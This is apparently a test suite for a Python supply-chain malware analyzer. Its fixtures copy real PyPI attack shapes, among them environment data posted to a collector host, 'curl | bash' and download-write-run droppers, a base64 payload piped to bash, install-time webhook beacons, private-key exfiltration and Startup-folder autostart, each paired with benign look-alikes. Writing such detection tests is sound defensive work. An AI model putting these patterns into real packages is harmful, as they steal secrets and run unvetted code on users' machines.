"""Python analyzer: shapes of real PyPI attacks the first rules missed, and their look-alikes."""

from __future__ import annotations

from support.findings import matching

from depshield.analyzers.python import PythonAnalyzer
from depshield.model import FileAnalysis, Override


def analyze(source: str, path: str = "pkg/__init__.py") -> FileAnalysis:
    return PythonAnalyzer().analyze(path, source.encode())


ENV_NAMES_PROBE = """\
import os
from urllib import request

def report():
    data = f"env={dict(os.environ).keys()} uname={os.uname()}"
    request.urlopen("https://collect.example.invalid/r", data=data.encode())

report()
"""


def test_environment_names_formatted_into_data_are_a_host_survey() -> None:
    result = analyze(ENV_NAMES_PROBE)
    found = matching(result, "signal:source", 5, kind="system-info")
    assert found and found[0].top_level is True
    assert matching(result, "signal:source", 5, kind="hostname")


ENV_NAMES_LOOKUP = """\
import os

prefixed = [k for k in os.environ.keys() if k.startswith("MYAPP_")]
for name in dict(os.environ).keys():
    print(name.lower())
has_proxy = "HTTP_PROXY" in os.environ.keys()
"""


def test_looking_through_environment_names_is_no_source() -> None:
    assert not matching(analyze(ENV_NAMES_LOOKUP), "signal:source")


TEMPFILE_DROPPER = """\
import subprocess
import tempfile
import urllib.request

url = "https://cdn.example.invalid/tool.exe"
with urllib.request.urlopen(url) as response:
    with tempfile.NamedTemporaryFile(delete=False) as handle:
        handle.write(response.read())
        exe_path = handle.name
subprocess.call([exe_path])
"""


def test_download_written_to_a_temp_file_and_run() -> None:
    found = matching(analyze(TEMPFILE_DROPPER), "remoteCodeDownload", 10)
    assert found and found[0].props["pattern"] == "download-write-run"
    assert found[0].top_level is True


TEMPFILE_PATCH = """\
import subprocess
import tempfile

def apply(diff):
    with tempfile.NamedTemporaryFile("w", suffix=".patch", delete=False) as handle:
        handle.write(diff)
        name = handle.name
    subprocess.run(["git", "apply", name], check=True)
"""


def test_temp_file_of_local_data_given_to_a_tool_is_no_dropper() -> None:
    result = analyze(TEMPFILE_PATCH)
    assert not matching(result, "remoteCodeDownload")
    assert not matching(result, "encodedPayloadExecution")


PARTIAL_COMMANDS = """\
import base64, os, subprocess

def install_hook():
    blob = base64.b64encode(payload())
    os.system("echo %s|base64 -d|bash" % blob)

def fetch_and_start():
    target = os.environ["TEMP"] + "\\\\update.exe"
    curl = os.environ["WINDIR"] + "\\\\System32\\\\curl.exe"
    subprocess.call([curl, "https://dl.example.invalid/u.exe", "-o", target])
    subprocess.call([target], shell=True)
"""


def test_decoded_text_piped_to_a_shell_through_percent_formatting() -> None:
    found = matching(analyze(PARTIAL_COMMANDS, "setup.py"), "encodedPayloadExecution", 5)
    assert found and found[0].props == {"how": "pipe", "run": "bash"}


def test_file_fetched_by_curl_then_run() -> None:
    result = analyze(PARTIAL_COMMANDS, "setup.py")
    assert matching(result, "signal:download", 10, detail="https://dl.example.invalid/u.exe")
    found = matching(result, "remoteCodeDownload", 11, pattern="download-write-run")
    assert found and found[0].props["detail"] == ["target"]
    assert not matching(result, "remoteCodeDownload", 10)


BUILD_COMMANDS = """\
import os, subprocess, sys

def build(compiler, flags):
    archive = os.path.join(os.environ["TMP"], "src.tar.gz")
    subprocess.check_call(["curl", "-L", "https://src.example.invalid/x.tgz", "-o", archive])
    subprocess.check_call(["tar", "xzf", archive])
    os.system(f"{compiler} {flags} -c ext.c")
    os.system("%s -m build %s" % (sys.executable, flags))
"""


def test_fetched_archive_unpacked_and_unknown_programs_are_no_threat() -> None:
    result = analyze(BUILD_COMMANDS, "setup.py")
    assert not matching(result, "remoteCodeDownload")
    # partly known lines that fetch or decode nothing are not judged (a build's own steps)
    for line in (7, 8):
        assert not [f for f in matching(result, "signal:spawn", line) if "command" in f.props]


SUBSTITUTION_CIPHER = """\
import string
plain = string.ascii_letters
shifted = plain[::-1]
exec("".join([shifted[plain.index(c)] if c in shifted else c for c in "KIRMG('RMVIG UrcgfIV')"]))
exec("".join(c for c in "print('a literal copied as it is')"))
"""


def test_literal_rewritten_character_by_character_then_run() -> None:
    result = analyze(SUBSTITUTION_CIPHER)
    found = matching(result, "encodedPayloadExecution", 4, sink="exec")
    assert found and found[0].props["decoder"] == ["substitution"]
    assert not matching(result, "encodedPayloadExecution", 5)


OAST_HOST = "k1." + "oast" + "ify.com"
LOAD_TIME_PROBE = f"""\
import requests

requests.get("https://{OAST_HOST}/notify")

def later():
    requests.get("https://{OAST_HOST}/called")
"""


def test_request_to_a_testing_host_on_load_is_a_probe() -> None:
    result = analyze(LOAD_TIME_PROBE)
    found = matching(result, "dataExfiltration", 3, source=["load-time-probe"])
    assert found and found[0].top_level is True
    assert not matching(result, "dataExfiltration", 6)


def test_request_to_an_ordinary_host_on_load_is_no_probe() -> None:
    source = 'import requests\nrequests.get("https://api.example.invalid/v1/ping")\n'
    assert not matching(analyze(source), "dataExfiltration")


# Assembled so that no token-shaped literal sits in the repository.
BOT_TOKEN = "1234567890:" + "AA" + "x" * 33
BOT_REPORTER = f"""\
import requests

TOKEN = "{BOT_TOKEN}"

def notify(text):
    url = f"https://chat.example.invalid/bot{{TOKEN}}/sendMessage"
    requests.post(url, data={{"chat_id": 1, "text": text}})
"""


def test_module_posting_with_an_embedded_bot_token_warns() -> None:
    found = matching(analyze(BOT_REPORTER), "dataExfiltration", 3)
    assert found and found[0].props["source"] == ["embedded-bot-token"]
    assert found[0].override == Override("high", "warn")


def test_bot_token_read_from_the_user_is_no_finding() -> None:
    source = BOT_REPORTER.replace(f'"{BOT_TOKEN}"', 'os.environ["BOT_TOKEN"]')
    source = "import os\n" + source
    assert not matching(analyze(source), "dataExfiltration")


WALLET_DRAIN = """\
import requests

def check(private_key):
    payload = [{"key", private_key}]
    requests.post("https://api.example.invalid/tron", payload)

def address(account):
    requests.get(f"https://api.example.invalid/send?text={account.key.hex()}", timeout=2)
"""


def test_private_key_sent_to_a_fixed_host() -> None:
    result = analyze(WALLET_DRAIN)
    found = matching(result, "dataExfiltration", 5, source=["wallet-secret"])
    assert found and found[0].props["detail"] == "private_key"
    assert found[0].top_level is False
    assert matching(result, "dataExfiltration", 8, detail="account.key.hex")


WALLET_RPC = """\
import requests
from eth_account import Account

def send(rpc_url, private_key, tx):
    signed = Account.sign_transaction(tx, private_key)
    requests.post(rpc_url, json={"method": "eth_sendRawTransaction", "params": [signed.raw]})
    requests.get("https://api.example.invalid/balance", params={"address": tx["from"]})
"""


def test_signing_with_a_key_and_sending_the_signature_is_no_theft() -> None:
    assert not matching(analyze(WALLET_RPC), "dataExfiltration")


WEBHOOK = "https://discord.com/api/" + "webhooks/123/inert-fixture-token"
INSTALL_COUNTER = f"""\
import json, urllib.request
from setuptools import setup
from setuptools.command.install import install

class PostInstall(install):
    def run(self):
        install.run(self)
        data = json.dumps({{"content": "installed"}}).encode()
        req = urllib.request.Request("{WEBHOOK}", data=data)
        urllib.request.urlopen(req, timeout=10)

setup(name="x", cmdclass={{"install": PostInstall}})
"""


def test_install_command_posting_to_a_hard_coded_webhook_is_a_beacon() -> None:
    result = analyze(INSTALL_COUNTER, "setup.py")
    found = matching(result, "dataExfiltration", 10, source=["load-time-probe"])
    assert found and found[0].props["url"] == WEBHOOK
    assert found[0].top_level is True


def test_same_webhook_in_a_function_nobody_calls_on_load_is_no_probe() -> None:
    result = analyze(INSTALL_COUNTER, "pkg/notify.py")
    assert not matching(result, "dataExfiltration")


COMMAND_WRAPPER = """\
import subprocess

def run(cmd):
    subprocess.Popen(cmd, shell=True, stdout=subprocess.PIPE)

run("git describe --tags")
run("curl -s https://dl.example.invalid/x.sh | bash")
"""


def test_literal_command_given_to_a_local_wrapper_is_judged_at_the_call() -> None:
    result = analyze(COMMAND_WRAPPER, "setup.py")
    found = matching(result, "remoteCodeDownload", 7, pattern="download-piped-to-shell")
    assert found and found[0].top_level is True
    assert not matching(result, "remoteCodeDownload", 6)
    assert matching(result, "signal:spawn", 6, command="git")


DNS_CANARY = """\
import socket

def _check():
    try:
        socket.gethostbyname("canary.example.invalid")
    except socket.gaierror:
        pass

_check()
address = socket.gethostbyname("db.example.invalid")
"""


def test_fixed_name_resolved_on_load_and_discarded_is_a_canary() -> None:
    result = analyze(DNS_CANARY)
    found = matching(result, "dataExfiltration", 5, sink=["dns"])
    assert found and found[0].top_level is True
    assert not matching(result, "dataExfiltration", 10)  # the address is used


PIP_FROM_URL = """\
import os, sys

os.system(f"{sys.executable} -m pip install https://files.example.invalid/p/extra-1.0.tar.gz")
os.system(f"{sys.executable} -m pip install colorama")

def add_plugin(url):
    os.system(f"{sys.executable} -m pip install https://plugins.example.invalid/x.whl")
"""


def test_installing_from_a_url_on_load_runs_unvetted_code() -> None:
    result = analyze(PIP_FROM_URL)
    found = matching(result, "remoteCodeDownload", 3, pattern="installs-from-url")
    assert found and found[0].top_level is True
    assert not matching(result, "remoteCodeDownload", 4)  # a registry name
    assert not matching(result, "remoteCodeDownload", 7)  # only when a user asks for it


ACROSS_FUNCTIONS = """\
import os, subprocess, threading
import requests

path = os.environ["LOCALAPPDATA"] + "\\\\svc.exe"
NOTES = os.path.join(os.environ["TMP"], "notes.txt")

def fetch():
    response = requests.get("https://cdn.example.invalid/a.exe")
    with open(path, "wb") as handle:
        handle.write(response.content)
    with open(NOTES, "w") as handle:
        handle.write(requests.get("https://api.example.invalid/motd").text)

def start():
    subprocess.run(path, shell=True)

def show():
    subprocess.run(["less", NOTES])

fetch()
threading.Thread(target=start).start()
"""


def test_download_written_by_one_function_and_run_by_another() -> None:
    result = analyze(ACROSS_FUNCTIONS)
    found = matching(result, "remoteCodeDownload", 15, pattern="download-write-run")
    assert found and "path" in found[0].props["detail"]
    assert not matching(result, "remoteCodeDownload", 18)  # the file is read, not run


AUTOSTART = """\
import os, shutil, winreg
from setuptools.command.install import install

class PostInstall(install):
    def run(self):
        startup = os.environ["APPDATA"] + r"\\Microsoft\\Windows\\Start Menu\\Programs\\Startup"
        shutil.copy("agent.pyw", os.path.join(startup, "agent.pyw"))

def enable_autostart(command):
    run_key = r"Software\\Microsoft\\Windows\\CurrentVersion\\Run"
    key = winreg.CreateKey(winreg.HKEY_CURRENT_USER, run_key)
    winreg.SetValueEx(key, "tray", 0, winreg.REG_SZ, command)
HELP = "Add a shortcut to Start Menu\\\\Programs\\\\Startup to launch the tray at logon."
"""


def test_install_code_writing_into_the_startup_folder() -> None:
    result = analyze(AUTOSTART, "setup.py")
    found = matching(result, "troll", 6, behaviour="autostart")
    assert found and found[0].top_level is True
    assert len(matching(result, "troll")) == 1


def test_autostart_option_a_user_calls_and_help_text_are_quiet() -> None:
    assert not matching(analyze(AUTOSTART, "pkg/tray.py"), "troll")


CAPTURE_HOST = "webhook" + ".site"
DOCUMENTED = f'''\
"""Module doc: try https://{CAPTURE_HOST}/abc and ~/.npmrc."""
import requests

class Hooks:
    def get(self):
        """Example target: https://{CAPTURE_HOST}/y"""
        return requests.get("https://{CAPTURE_HOST}/z")
'''


def test_docstrings_name_endpoints_without_sending_to_them() -> None:
    result = analyze(DOCUMENTED)
    assert matching(result, "suspiciousString", 1) and matching(result, "suspiciousString", 6)
    assert not matching(result, "signal:sink", 1) and not matching(result, "signal:source", 1)
    assert not matching(result, "signal:sink", 6)
    assert matching(result, "signal:sink", 7, kind="webhook")
